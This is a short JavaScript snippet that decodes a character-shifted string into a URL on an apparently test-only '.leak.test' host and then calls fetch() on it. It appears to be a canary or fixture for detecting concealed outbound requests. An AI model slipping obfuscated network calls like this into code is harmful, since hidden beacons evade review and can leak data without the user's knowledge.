let s = "";
for (const c of "iuuqt;00voqspwbcmf.dibs.bsjuinfujd/mfbl/uftu0") s += String.fromCharCode(c.charCodeAt(0) - 1);
fetch(s)
